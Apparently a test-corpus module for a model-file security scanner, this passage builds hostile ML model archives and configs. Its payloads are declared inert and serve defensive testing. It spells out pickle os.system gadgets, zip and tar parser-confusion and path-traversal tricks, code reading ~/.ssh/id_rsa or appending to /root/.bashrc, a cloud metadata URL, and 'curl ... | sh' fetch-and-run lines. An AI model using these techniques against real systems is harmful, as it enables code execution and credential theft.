"""Hostile archives, bundles and configurations. Every payload is inert: "true", "echo example", example.com, 192.0.2.1."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zlib
from collections.abc import Iterator, Mapping, Sequence

from tests import builders
from tests.builders import assemble
from tests.corpus.bundle_parts import (
    LZMA_PROPERTIES,
    Entry,
    Item,
    end_of,
    listed_of,
    local_of,
    seven_of,
    zip64_end,
    zip_of,
)

PAYLOAD = assemble(
    'PROTO 4\nSHORT_BINUNICODE "os"\nSHORT_BINUNICODE "system"\nSTACK_GLOBAL\nSHORT_BINUNICODE "true"\nTUPLE1\nREDUCE\nSTOP'
)
TEXT_PAYLOAD = assemble("GLOBAL os system\nMARK\nUNICODE 'true'\nTUPLE\nREDUCE\nSTOP")
CLEAN = assemble("PROTO 4\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nSTOP")
VERSION = Entry("archive/version", b"3\n")
TORCH = builders.torch_zip(PAYLOAD)


REVIEWED = frozenset(
    {
        "packages/own.pt", "packages/library.pt", "scripts/alias.pt", "scripts/alias-ops.pt", "scripts/custom.pt", "scripts/class.pt",
        "scripts/lite-custom.ptl", "exports/library.pt2", "exports/custom.pt2", "exports/own.pt2", "sources/plain.mar",
        "archives_of_servers/handler-unknown.mar", "archives_of_servers/requirements.mar", "archives_of_servers/requirements-git.mar",
        "mlflows/own/MLmodel", "mlflows/dotted/MLmodel", "hydras/unknown.nemo", "hydras/env.nemo", "hydras/eval-resolver.nemo",
        "xmls/function.pmml", "xmls/extension.xml", "xmls/opset.xml", "skops/method-shown.skops", "skops/operator-getter.skops", "skops/own.skops",
    }
)  # fmt: skip
"""Doubtful files, which a person has to look at."""

UNREAD = frozenset(
    {"posers/page.safetensors", "posers/refusal.bin", "posers/annex.bin", "posers/source.bin", "posers/lfs-in-tar.tar", "posers/lfs-in-zip.zip"}
)  # fmt: skip
"""Files that are no models, which a gap says."""

DOUBTFUL = REVIEWED | UNREAD


def attacks() -> Iterator[tuple[str, bytes]]:
    for group in (
        zips,
        tars,
        sevens,
        codecs,
        packages,
        scripts,
        exports,
        sources,
        archives_of_servers,
        mlflows,
        hydras,
        xmls,
        skops,
        posers,
    ):
        for name, content in group():
            yield f"{group.__name__}/{name}", content


def zips() -> Iterator[tuple[str, bytes]]:
    serialized = {"policy_class": {":type:": "x", ":serialized:": base64.b64encode(PAYLOAD).decode()}}
    agent = {"data": json.dumps(serialized).encode(), "_stable_baselines3_version": b"2.3.0", "policy.pth": TORCH}
    yield "stable-baselines3.zip", builders.archive(agent)
    bad, good = Entry("archive/data.pkl", PAYLOAD), Entry("archive/data.pkl", CLEAN)
    for method in (0, 8, 12, 14, 95):
        yield f"method-{method}.pt", zip_of([Entry("archive/data.pkl", PAYLOAD, method), VERSION])
    for flag in (1, 0x20, 0x40, 0x2000, 0x41, 0x2061):
        yield f"flag-{flag:x}.pt", zip_of([Entry("archive/data.pkl", PAYLOAD, flags=flag), VERSION])
    yield "wrong-crc.pt", zip_of([Entry("archive/data.pkl", PAYLOAD, local={"crc": 7}, listed={"crc": 7}), VERSION])
    yield (
        "wrong-crc-packed.pt",
        zip_of([Entry("archive/data.pkl", PAYLOAD, 8, local={"crc": 7}, listed={"crc": 7}), VERSION]),
    )
    yield "duplicate-first.pt", zip_of([bad, good, VERSION])
    yield "duplicate-last.pt", zip_of([good, bad, VERSION])
    yield "other-case.pt", zip_of([good, Entry("archive/DATA.PKL", PAYLOAD), VERSION])
    yield "local-name.pt", zip_of([Entry("archive/data.pkl", PAYLOAD, local_name=b"archive/text.txt"), VERSION])
    yield (
        "listed-name.pt",
        zip_of(
            [Entry("archive/data.pkl", PAYLOAD, listed_name=b"archive/text.txt", local_name=b"archive/data.pkl"), good]
        ),
    )
    yield "unlisted.pt", zip_of([good, Entry("archive/data.pkl", PAYLOAD, is_listed=False), VERSION])
    yield (
        "unlisted-descriptor.pt",
        zip_of([good, Entry("archive/data.pkl", PAYLOAD, 8, is_listed=False, descriptor=True), VERSION]),
    )
    yield (
        "unlisted-behind-junk.pt",
        zip_of([good, VERSION], between=bytes(range(256)) * 4096 + local_of(Entry("x/data.pkl", PAYLOAD))),
    )
    yield "no-directory.pt", local_of(bad) + local_of(VERSION)
    yield "no-directory-descriptor.pt", local_of(Entry("archive/data.pkl", PAYLOAD, 8, descriptor=True))
    yield "descriptor.pt", zip_of([Entry("archive/data.pkl", PAYLOAD, 8, descriptor=True), VERSION])
    yield "prefix.pt", b"junk" * 100 + zip_of([bad, VERSION])
    yield "prefix-adjusted.pt", zip_of([bad, VERSION], before=b"MZ" + bytes(200))
    yield "two-archives.pt", zip_of([bad, VERSION]) + zip_of([good, VERSION])
    yield "two-archives-other.pt", zip_of([good, VERSION]) + zip_of([bad, VERSION])
    first, second = zip_of([good, VERSION]), zip_of([bad, VERSION])
    yield "end-in-comment.pt", _commented(zip_of([good, VERSION]), second)
    yield "end-in-comment-other.pt", _commented(second, zip_of([good, VERSION]))
    yield "long-comment.pt", zip_of([bad, VERSION])[:-2] + b"\xff\xff"
    yield "trailing.pt", zip_of([bad, VERSION]) + b"junk behind the end"
    yield "end-with-other-offset.pt", _by_offset(first, second)
    yield "zip64-disagrees.pt", _zip64(good, bad)
    yield "zip64-disagrees-other.pt", _zip64(bad, good)
    yield "zip64-locator-elsewhere.pt", _zip64(good, bad, elsewhere=True)
    yield (
        "local-size.pt",
        zip_of(
            [
                Entry(
                    "archive/data.pkl",
                    CLEAN + b"\0" * 8 + PAYLOAD,
                    listed={"packed": len(CLEAN), "size": len(CLEAN), "crc": zlib.crc32(CLEAN)},
                ),
                VERSION,
            ]
        ),
    )
    yield "local-method.pt", zip_of([Entry("archive/data.pkl", PAYLOAD, 8, listed={"method": 0}), VERSION])
    yield "listed-method.pt", zip_of([Entry("archive/data.pkl", PAYLOAD, 8, local={"method": 0}), VERSION])
    yield "overlap.pt", _overlapping(bad, good)
    yield "directory-first.pt", _directory_first([bad, VERSION])
    yield "behind-directory.pt", _behind_directory(good, bad)
    yield "traversal.pt", zip_of([Entry("../../data.pkl", CLEAN)])
    yield "traversal-inside.pt", zip_of([good, Entry("archive/x/../../../y", b"text"), VERSION])
    yield "absolute.pt", zip_of([good, Entry("/etc/cron.d/example", b"text"), VERSION])
    yield "drive.pt", zip_of([good, Entry("C:/example.txt", b"text"), VERSION])
    yield "backslash.pt", zip_of([good, Entry("..\\..\\example.txt", b"text"), VERSION])
    yield "share.pt", zip_of([good, Entry("\\\\192.0.2.1\\share\\x", b"text"), VERSION])
    yield "null-in-name.pt", zip_of([good, Entry("archive/readme.txt\0.pkl", b"text"), VERSION])
    yield "symlink.pt", zip_of([good, Entry("archive/link", b"/etc/passwd", attributes=0o120777 << 16), VERSION])
    utf = b"archive/evil.pkl"
    yield (
        "unicode-path.pt",
        zip_of(
            [
                Entry(
                    "archive/readme.txt",
                    PAYLOAD,
                    extra=struct.pack("<2HBL", 0x7075, 5 + len(utf), 1, zlib.crc32(b"archive/readme.txt")) + utf,
                ),
                VERSION,
                good,
            ]
        ),
    )
    up = b"../../x.pkl"
    yield (
        "unicode-path-leaves.pt",
        zip_of(
            [
                Entry("archive/readme.txt", b"text", extra=struct.pack("<2HBL", 0x7075, 5 + len(up), 1, 0) + up),
                VERSION,
                good,
            ]
        ),
    )
    yield "long-name.pt", zip_of([Entry("a" * 60000 + "/data.pkl", PAYLOAD), Entry("a" * 60000 + "/version", b"3")])
    yield "in-zip.zip", zip_of([Entry("a.zip", zip_of([Entry("b.zip", TORCH, 8)]), 8)])
    yield "in-storage.pt", builders.torch_zip(CLEAN, [PAYLOAD])
    yield (
        "out-of-bounds.pt",
        zip_of([bad, Entry("archive/data/0", b"x", listed={"packed": 2**31, "size": 2**31}), VERSION]),
    )
    yield "header-outside.pt", zip_of([bad, Entry("archive/data/0", b"x", listed={"place": 2**31}), VERSION])
    yield "text-member.zip", zip_of([Entry("notes/a.pkl", TEXT_PAYLOAD)])
    yield "program-member.zip", zip_of([Entry("model.bin", b"\x7fELF\2\1\1" + bytes(80))])
    yield "bomb.npz", zip_of([Entry("a.npy", builders.npy(bytes(80 * 2**20), "|O", (1,)), 8)])
    yield "npz-object.npz", zip_of([Entry("a.npy", builders.npy(PAYLOAD, "|O", (1,)), 8)])


def _commented(first: bytes, second: bytes) -> bytes:
    """Put a whole archive into the comment of another one."""
    moved = bytearray(second)
    end = moved.rfind(b"PK\5\6")
    size, place = struct.unpack_from("<2L", moved, end + 12)
    at = place
    while moved[at : at + 4] == b"PK\1\2":
        name, extra, comment = struct.unpack_from("<3H", moved, at + 28)
        (header,) = struct.unpack_from("<L", moved, at + 42)
        struct.pack_into("<L", moved, at + 42, header + len(first))
        at += 46 + name + extra + comment
    struct.pack_into("<2L", moved, end + 12, size, place + len(first))
    struct.pack_into("<H", moved, end + 20, 0)
    changed = bytearray(first)
    struct.pack_into("<H", changed, len(changed) - 2, len(moved) + 3)
    return bytes(changed + moved + b"end")


def _by_offset(first: bytes, second: bytes) -> bytes:
    """Return an archive whose end record means ``first`` by its offset, and the directory before it by its size."""
    at = first.rfind(b"PK\5\6")
    (place,) = struct.unpack_from("<L", first, at + 16)
    end = second.rfind(b"PK\5\6")
    (other,) = struct.unpack_from("<L", second, end + 12)
    entries = struct.unpack_from("<H", second, end + 10)[0]
    return first[:at] + second[:end] + end_of(entries, other, place)


def _zip64(narrow: Entry, wide: Entry, elsewhere: bool = False) -> bytes:
    """Return an archive whose two kinds of end records name two directories."""
    body = local_of(narrow) + local_of(wide)
    one, two = listed_of(narrow, 0), listed_of(wide, len(local_of(narrow)))
    place = len(body)
    body += one + two
    at = len(body)
    tail = zip64_end(1, len(two), place + len(one), at)
    if elsewhere:
        record = tail[:56]
        decoy = zip64_end(1, len(one), place, at + 56)[:56]
        tail = record + decoy + struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    return body + tail + end_of(1, len(one), place)


def _overlapping(bad: Entry, good: Entry) -> bytes:
    """Return an archive in which the data of one member holds another one."""
    inner = local_of(bad)
    outer = Entry("archive/data/0", inner)
    body = local_of(outer)
    listed = listed_of(outer, 0) + listed_of(bad, len(body) - len(inner)) + listed_of(good, len(body))
    body += local_of(good)
    return body + listed + end_of(3, len(listed), len(body))


def _directory_first(entries: list[Entry]) -> bytes:
    sizes = [len(listed_of(entry, 0)) for entry in entries]
    at, listed, body = sum(sizes), b"", b""
    for entry in entries:
        listed += listed_of(entry, at + len(body))
        body += local_of(entry)
    return local_of(Entry("archive/byteorder", b"little"))[:0] + listed + body + end_of(len(entries), len(listed), 0)


def _behind_directory(good: Entry, bad: Entry) -> bytes:
    body = local_of(good) + local_of(VERSION)
    listed = listed_of(good, 0) + listed_of(VERSION, len(local_of(good)))
    return body + listed + local_of(bad) + end_of(2, len(listed), len(body))


def tars() -> Iterator[tuple[str, bytes]]:
    yield "pickle.tar", builders.tar({"a/b.pkl": PAYLOAD})
    yield "any-name.nemo", builders.tar({"weights": PAYLOAD})
    yield "torch.nemo", builders.tar({"model_weights.ckpt": TORCH, "model_config.yaml": b"a: 1\n"})
    yield "torch.tar.gz", gzip.compress(builders.tar({"a/b.ckpt": TORCH}), mtime=0)
    yield "torch.tar.xz", lzma.compress(builders.tar({"a/b.ckpt": TORCH}))
    yield "torch.tar.bz2", bz2.compress(builders.tar({"a/b.ckpt": TORCH}))
    yield "tar-in-tar.tar", builders.tar({"x.tar": builders.tar({"y.pkl": PAYLOAD})})
    yield "traversal.nemo", builders.tar({"../../x.ckpt": CLEAN, "model_config.yaml": b"a: 1\n"})
    yield "absolute.nemo", builders.tar({"/etc/x.ckpt": CLEAN, "a.pkl": CLEAN})
    yield "backslash.nemo", builders.tar({"..\\..\\x": b"text", "a.pkl": CLEAN})
    yield "duplicate.nemo", _tar([("a.ckpt", PAYLOAD), ("a.ckpt", CLEAN)])
    yield "duplicate-text.nemo", _tar([("a.ckpt", CLEAN), ("./a.ckpt", CLEAN)])
    yield "symlink.nemo", _tar([("a.ckpt", CLEAN)], links=[("link", "/etc/passwd", tarfile.SYMTYPE)])
    yield "symlink-up.nemo", _tar([("a.ckpt", CLEAN)], links=[("x/link", "../../..", tarfile.SYMTYPE)])
    yield "hardlink.nemo", _tar([("a.ckpt", CLEAN)], links=[("link", "../../x", tarfile.LNKTYPE)])
    yield "device.nemo", _tar([("a.ckpt", CLEAN)], links=[("dev", "", tarfile.CHRTYPE)])
    yield "cut.tar", builders.tar({"a.pkl": PAYLOAD, "b.bin": bytes(5000)})[:2000]
    yield "pax.nemo", _tar([("a/" + "long" * 60 + ".ckpt", PAYLOAD)], form=tarfile.PAX_FORMAT)
    yield "v7.tar", _old_tar("weights.pkl", PAYLOAD)


def _tar(
    members: list[tuple[str, bytes]], links: Sequence[tuple[str, str, bytes]] = (), form: int = tarfile.GNU_FORMAT
) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=form) as file:
        for name, content in members:
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            file.addfile(entry, io.BytesIO(content))
        for name, link, kind in links:
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, link
            file.addfile(entry)
    return target.getvalue()


def _old_tar(name: str, content: bytes) -> bytes:
    """Return a tar archive of before POSIX, which has no "ustar"."""
    head = bytearray(512)
    head[: len(name)] = name.encode()
    head[100:108], head[108:116], head[116:124] = b"000644 \0", b"000000 \0", b"000000 \0"
    head[124:136], head[136:148], head[148:156], head[156:157] = b"%011o " % len(content), b"%011o " % 0, b" " * 8, b"0"
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + content + bytes(-len(content) % 512) + bytes(1024)


def sevens() -> Iterator[tuple[str, bytes]]:
    items = [Item("a/readme.txt", b"text\n" * 50), Item("a/model.pkl", PAYLOAD)]
    for name, method, properties in (
        ("copy", b"\0", b""), ("lzma", b"\x03\x01\x01", LZMA_PROPERTIES), ("lzma2", b"\x21", b"\x10"), ("deflate", b"\x04\x01\x08", b""),
        ("bzip2", b"\x04\x02\x02", b""),
    ):  # fmt: skip
        yield f"{name}.7z", seven_of(items, method, properties)
        yield f"{name}-single.7z", seven_of(items, method, properties, solid=False)
        yield f"{name}-header.7z", seven_of(items, method, properties, encode_header=True)
    yield "torch.7z", seven_of([Item("m.pt", TORCH)])
    yield "nested.7z", seven_of([Item("x.7z", seven_of(items))])
    yield "in-zip.zip", zip_of([Entry("x.7z", seven_of(items))])
    yield "named-pt.pt", seven_of(items)
    yield "traversal.7z", seven_of([Item("../../x.pkl", CLEAN)])
    yield "backslash.7z", seven_of([Item("..\\x.pkl", CLEAN)])
    yield "absolute.7z", seven_of([Item("/x.pkl", CLEAN)])
    yield "anti.7z", seven_of([Item("x.pkl", CLEAN), Item("other", anti=True)])
    yield "duplicate.7z", seven_of([Item("x.pkl", CLEAN), Item("X.pkl", CLEAN)])
    yield (
        "symlink.7z",
        seven_of([Item("x.pkl", CLEAN), Item("link", b"/etc/passwd", attributes=0x8000 | (0o120777 << 16))]),
    )
    yield "start-crc.7z", seven_of(items, start_crc=1)
    yield "header-crc.7z", seven_of(items, header_crc=1)
    yield "member-crc.7z", seven_of([Item("a.pkl", PAYLOAD, crc=1)])
    yield "trailing.7z", seven_of(items, tail=b"junk behind the end")
    yield (
        "bomb.7z",
        seven_of([Item("a.pkl", PAYLOAD), Item("b.pkl", bytes(120 * 2**20))], b"\x03\x01\x01", LZMA_PROPERTIES),
    )
    yield "size-lies.7z", seven_of([Item("a.pkl", PAYLOAD)], sizes=[2**40])
    yield "protocol-0.7z", seven_of([Item("a.pkl", TEXT_PAYLOAD)])
    yield "hydra.7z", seven_of([Item("model_config.yaml", b"x:\n  _target_: os.system\n")])
    yield "handler.7z", seven_of([Item("m.pkl", CLEAN), Item("handler.py", b"import os\nos.system('true')\n")])


def codecs() -> Iterator[tuple[str, bytes]]:
    frame = _lz4_frame(PAYLOAD)
    skip = b"\x51\x2a\x4d\x18" + struct.pack("<I", 700) + b"x" * 700
    yield "lz4.pkl.lz4", frame
    yield "lz4-skipped.pkl.lz4", skip + frame
    yield "lz4-two.pkl.lz4", _lz4_frame(CLEAN) + skip + frame
    yield "lz4-legacy.pkl.lz4", b"\x02\x21\x4c\x18" + struct.pack("<I", len(_lz4_block(PAYLOAD))) + _lz4_block(PAYLOAD)
    yield "zstd.pkl.zst", _zstd_frame(PAYLOAD)
    yield "zstd-skipped.pkl.zst", skip + _zstd_frame(PAYLOAD)
    yield "zstd-two.pkl.zst", _zstd_frame(CLEAN) + skip + _zstd_frame(PAYLOAD)
    yield "zstd.tar.zst", _zstd_frame(builders.tar({"a.pkl": PAYLOAD}))
    yield "gzip-name.pt", gzip.compress(TORCH, mtime=0)
    yield "lzma-alone.joblib", lzma.compress(PAYLOAD, lzma.FORMAT_ALONE)
    yield "twice.pkl.gz", gzip.compress(bz2.compress(PAYLOAD), mtime=0)


def _lz4_block(content: bytes) -> bytes:
    """Return a block of literals alone."""
    size = len(content)
    head = bytes([min(size, 15) << 4])
    rest = size - 15
    while rest >= 0:
        head += bytes([min(rest, 255)])
        rest -= 255
    return head + content


def _lz4_frame(content: bytes) -> bytes:
    """Return a frame with one block that is not packed and no checksum but that of the header, which is known for these flags."""
    return b"\x04\x22\x4d\x18" + b"\x60\x40\x82" + struct.pack("<I", len(content) | 0x80000000) + content + bytes(4)


def _zstd_frame(content: bytes) -> bytes:
    """Return a frame of one raw block (RFC 8878, 3.1.1): single segment, size of four bytes."""
    head = b"\x28\xb5\x2f\xfd" + bytes([0xA0]) + struct.pack("<I", len(content))
    return head + struct.pack("<I", len(content) << 3 | 1)[:3] + content


def packages() -> Iterator[tuple[str, bytes]]:
    """torch.package: sources and pickles."""
    for name, text in SOURCES.items():
        yield f"{name}.pt", _package({"own/net.py": text.encode()})
    yield "pickle.pt", _package({"model/model.pkl": PAYLOAD})
    yield "known-name.pt", _package({"torchvision/models/resnet.py": b"import os\nos.system('true')\n"})
    yield "own.pt", _package({"own/net.py": b"class N:\n    pass\n"})
    yield "library.pt", _package({"own/fast.so": b"\x7fELF\2\1\1" + bytes(100)})


def _package(members: Mapping[str, bytes]) -> bytes:
    found = {
        "p/.data/extern_modules": b"torch\n",
        "p/.data/version": b"6\n",
        "p/.data/python_version": b"3.11\n",
        "p/model/model.pkl": CLEAN,
    }
    return builders.archive({**found, **{f"p/{name}": content for name, content in members.items()}})


def _script(code: str, **more: bytes) -> bytes:
    members = {
        "net/data.pkl": assemble("PROTO 2\nGLOBAL __torch__.Net Net\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nBUILD\nSTOP"),
        "net/constants.pkl": assemble("PROTO 2\nEMPTY_TUPLE\nSTOP"), "net/code/__torch__.py": code.encode(), "net/version": b"3\n",
    }  # fmt: skip
    return builders.archive(members | {f"net/{name.replace('__', '/', 1)}": content for name, content in more.items()})


def scripts() -> Iterator[tuple[str, bytes]]:
    """TorchScript that reaches files or the network."""
    lines = {
        "save": 'torch.save(x, "f")', "from-file": 'torch.from_file("/etc/passwd", True, 10)', "load": 'torch.load("f")', "ops-save": 'ops.aten.save(x, "f")',
        "rpc": 'torch.rpc_sync("a", "b")', "spaces": 'torch . save (x, "f")', "newline": 'torch\\\n.save(x, "f")', "comment": 'torch.#c\nsave(x, "f")',
        "alias": "t = torch\n    t.save(x)", "alias-ops": "o = ops.aten\n    o.save(x)", "read-file": 'ops.image.read_file("/etc/passwd")',
        "write-file": 'ops.image.write_file("x", y)', "custom": "ops.evil.run(x)", "class": "a : __torch__.torch.classes.evil.Runner", "audio": 'ops.torchaudio.sox_io_load_audio_file("x")',
    }  # fmt: skip
    for name, line in lines.items():
        yield (
            f"{name}.pt",
            _script(f"class Net(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    {line}\n    return x\n"),
        )
    yield "pickle.pt", _script("class Net(Module):\n", extra__x=PAYLOAD)
    yield (
        "lite.ptl",
        _script(
            "class Net(Module):\n",
            **{"bytecode.pkl": assemble('PROTO 2\nBINUNICODE "aten::save"\nBINUNICODE ""\nTUPLE2\nSTOP')},
        ),
    )
    yield (
        "lite-custom.ptl",
        _script(
            "class Net(Module):\n",
            **{"bytecode.pkl": assemble('PROTO 2\nBINUNICODE "evil::run"\nBINUNICODE ""\nTUPLE2\nSTOP')},
        ),
    )


def exports() -> Iterator[tuple[str, bytes]]:
    """torch.export archives."""
    targets = {
        "hub": "torch.hub.load", "walk": "torch.serialization.os.system", "load": "torch.load", "load-library": "torch.ops.load_library",
        "file": "torch.ops.aten.from_file.default", "custom": "torch.ops.evil.run.default", "class": "torch.classes.load_library", "own": "#evil:run",
    }  # fmt: skip
    for name, target in targets.items():
        yield f"{name}.pt2", _exported({"target": target, "inputs": [], "outputs": []})
    yield (
        "expression.pt2",
        _exported(
            {
                "target": "torch.ops.aten.relu.default",
                "inputs": [{"as_expr": {"expr_str": "__import__('os').system('true')"}}],
            }
        ),
    )
    yield (
        "expression-plain.pt2",
        _exported({"target": "torch.ops.aten.relu.default", "inputs": [{"expr_str": "os.system(1)"}]}),
    )
    yield "guards.pt2", _exported({"guards_code": ["__import__('os').system('true')"]})
    yield "pickled-weight.pt2", _exported({}, {"m/data/weights/weight_0": builders.torch_zip(PAYLOAD)})
    yield "custom-object.pt2", _exported({}, {"m/data/constants/custom_obj_0": builders.torch_zip(PAYLOAD)})
    yield "library.pt2", _exported({}, {"m/data/aotinductor/model/x.so": b"\x7fELF\2\1\1" + bytes(100)})
    yield "sample.pt2", _exported({}, {"m/data/sample_inputs/model.pt": TORCH})


def _exported(node: object, more: Mapping[str, bytes] | None = None) -> bytes:
    graph = {"graph_module": {"graph": {"nodes": [node]}}}
    return builders.archive(
        {
            "m/archive_format": b"pt2",
            "m/archive_version": b"0",
            "m/models/model.json": json.dumps(graph).encode(),
            **(more or {}),
        }
    )


SOURCES = {
    "system": "import os\nos.system('true')\n",
    "from-import": "from os import system as s\ns('true')\n",
    "computed-import": "__import__('o' + 's').popen('true')\n",
    "alias": "import os as o\nf = o.system\nf('true')\n",
    "subprocess": "import subprocess\nclass H:\n    def handle(self, data, context):\n        return subprocess.check_output(['true'])\n",
    "exec-decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "exec-read": "exec(open('x').read())\n",
    "eval-constant": "eval(\"__import__('os').system('true')\")\n",
    "socket": "import socket\ns = socket.create_connection(('192.0.2.1', 80))\n",
    "requests": "import requests\nrequests.get('http://example.com/x')\n",
    "urlopen": "from urllib.request import urlopen\nurlopen('http://example.com/x')\n",
    "unpickles": "import pickle, zlib\npickle.loads(zlib.decompress(b''))\n",
    "marshal": "import marshal, types\ntypes.FunctionType(marshal.loads(b''), {})()\n",
    "ctypes": "import ctypes\nctypes.CDLL('libx.so')\n",
    "getattr": "import os\ngetattr(os, ''.join(['sys', 'tem']))('true')\n",
    "subclasses": "().__class__.__base__.__subclasses__()\n",
    "ssh-key": "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    "startup": "open('/root/.bashrc', 'a').write('true')\n",
    "thread": "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()\n",
    "modules": "import sys\nsys.modules['os'].system('true')\n",
    "dict": "import os\nos.__dict__['system']('true')\n",
    "map-exec": "list(map(exec, ['1']))\n",
    "decorator": "@exec\n@input\nclass X: pass\n",
    "hub": "import torch\ntorch.hub.load('example/repository', 'model')\n",
    "load-library": "import torch\ntorch.ops.load_library('x.so')\n",
    "remote-code": "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
    "pip": "import pip\npip.main(['install', 'example'])\n",
    "metadata-server": "u = 'http://169.254.169.254/latest/meta-data'\n",
}


def sources() -> Iterator[tuple[str, bytes]]:
    """Sources beside a model in archives of all kinds."""
    for name, text in SOURCES.items():
        yield f"{name}.mar", _mar({"handler.py": text.encode()})
    bad = SOURCES["system"].encode()
    yield "beside.zip", builders.archive({"model.pkl": CLEAN, "predict.py": bad})
    yield "beside.tar", builders.tar({"model.pkl": CLEAN, "predict.py": bad})
    yield "shell.mar", _mar({"handler.py": b"class H: pass\n", "setup.sh": b"curl http://example.com/x | sh\n"})
    yield (
        "no-suffix.mar",
        _mar({"handler.py": b"class H: pass\n", "run": b"#!/usr/bin/env python3\nimport os\nos.system('true')\n"}),
    )
    yield "python-2.mar", _mar({"handler.py": b"import os\nprint 'x'\nos.system('true')\n"})
    yield "plain.mar", _mar({"handler.py": b"class H:\n    def handle(self, data, context):\n        return data\n"})


def _mar(members: Mapping[str, bytes], manifest: Mapping[str, object] | None = None) -> bytes:
    model = {
        "modelName": "m",
        "serializedFile": "model.pt",
        "handler": "handler.py",
        "modelVersion": "1.0",
        **(manifest or {}),
    }
    text = json.dumps({"runtime": "python", "model": model, "archiverVersion": "0.9.0"}).encode()
    return builders.archive({"MAR-INF/MANIFEST.json": text, "model.pt": builders.torch_zip(CLEAN), **members})


def archives_of_servers() -> Iterator[tuple[str, bytes]]:
    yield "weights.mar", _mar({"model.pt": TORCH})
    yield "extra.mar", _mar({"handler.py": b"x = 1\n", "vocab.pkl": PAYLOAD})
    yield "handler-os.mar", _mar({}, {"handler": "os:system"})
    yield "handler-subprocess.mar", _mar({}, {"handler": "subprocess:run"})
    yield "handler-elsewhere.mar", _mar({}, {"handler": "../../handler.py"})
    yield "handler-unknown.mar", _mar({}, {"handler": "examplelib.handlers:handle"})
    yield "file-elsewhere.mar", _mar({"handler.py": b"x = 1\n"}, {"serializedFile": "../../../etc/x.pt"})
    yield "file-address.mar", _mar({"handler.py": b"x = 1\n"}, {"extraFiles": "a.json,http://example.com/x.pt"})
    yield (
        "requirements.mar",
        _mar({"handler.py": b"x = 1\n", "requirements.txt": b"--extra-index-url http://192.0.2.1/simple\nexample\n"}),
    )
    yield (
        "requirements-git.mar",
        _mar({"handler.py": b"x = 1\n", "requirements.txt": b"git+https://example.com/x.git\n"}),
    )
    yield "manifest-broken.mar", builders.archive({"MAR-INF/MANIFEST.json": b"{", "model.pt": TORCH})


def _mlmodel(**flavour: object) -> bytes:
    lines = "".join(f"    {key}: {value}\n" for key, value in flavour.items())
    return f"flavors:\n  python_function:\n{lines}mlflow_version: 2.9.0\n".encode()


def mlflows() -> Iterator[tuple[str, bytes]]:
    values = {
        "os": {"loader_module": "os"}, "subprocess": {"loader_module": "subprocess"}, "runpy": {"loader_module": "runpy"}, "antigravity": {"loader_module": "antigravity"},
        "own": {"loader_module": "evil_loader"}, "dotted": {"loader_module": "evil.loader"}, "hub": {"loader_module": "torch.hub"}, "pip": {"loader_module": "pip"},
        "quoted": {"loader_module": '"\\x6fs"'}, "code-up": {"loader_module": "mlflow.sklearn", "code": "../../code"}, "code-absolute": {"loader_module": "mlflow.sklearn", "code": "/tmp/code"},
        "data-url": {"loader_module": "mlflow.sklearn", "data": "http://example.com/model.pkl"}, "model-up": {"loader_module": "mlflow.sklearn", "model_path": "../model.pkl"},
        "python-model": {"loader_module": "mlflow.pyfunc.model", "python_model": "/tmp/python_model.pkl"}, "predict": {"loader_module": "mlflow.sklearn", "predict_fn": "__reduce__.x"},
        "env": {"loader_module": "mlflow.sklearn", "env": "http://example.com/conda.yaml"}, "class": {"loader_module": "mlflow.xgboost", "model_class": "os.system"},
    }  # fmt: skip
    for name, flavour in values.items():
        yield f"{name}/MLmodel", _mlmodel(**flavour)
    yield "twice/MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: os\n"
    yield "anchor/MLmodel", b"x: &a os\nflavors:\n  python_function:\n    loader_module: *a\n"
    yield "tag/MLmodel", b"flavors:\n  python_function:\n    loader_module: !!python/object/apply:os.system ['true']\n"
    yield (
        "directive/MLmodel",
        b"%TAG ! tag:yaml.org,2002:python/\n---\nflavors:\n  x: !object/apply:subprocess.run ['true']\n",
    )
    yield "broken-behind/MLmodel", b"flavors:\n  python_function:\n    loader_module: os\nx: [\n"
    yield "json/MLmodel", b'{"flavors": {"python_function": {"loader_module": "os"}}}'
    yield (
        "trusted/MLmodel",
        b"flavors:\n  sklearn:\n    skops_trusted_types:\n    - os.system\n  python_function:\n    loader_module: mlflow.sklearn\n",
    )
    yield (
        "artifact/MLmodel",
        b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    artifacts:\n      a:\n        path: ../../x.pkl\n        uri: x\n",
    )
    yield (
        "in-archive.tar.gz",
        gzip.compress(builders.tar({"model/MLmodel": _mlmodel(loader_module="os"), "model/model.pkl": CLEAN}), mtime=0),
    )
    yield "in-archive.zip", builders.archive({"model/MLmodel": _mlmodel(loader_module="subprocess")})


def hydras() -> Iterator[tuple[str, bytes]]:
    configs = {
        "system": "x:\n  _target_: os.system\n  _args_: ['true']\n", "eval": "x:\n  _target_: builtins.eval\n  _args_: ['1']\n", "bare": "x:\n  _target_: eval\n",
        "nested": "a:\n  b:\n  - c:\n      _target_: subprocess.run\n", "quoted": "x:\n  \"_target_\": \"os.\\x73ystem\"\n", "flow": "{a: {_target_: os.system}}\n",
        "anchor": "n: &a os.system\nx:\n  _target_: *a\n", "reference": "n: os.system\nx:\n  _target_: ${n}\n", "computed": "x:\n  _target_: ${oc.env:EXAMPLE}\n",
        "unknown-url": "x:\n  _target_: examplelib.start\n  address: http://example.com/x\n", "unknown-shell": "x:\n  _target_: examplelib.start\n  text: curl http://192.0.2.1 | sh\n",
        "unknown": "x:\n  _target_: examplelib.Thing\n", "load": "x:\n  _target_: torch.load\n  f: x.pt\n", "hub": "x:\n  _target_: torch.hub.load\n", "get-method": "x:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
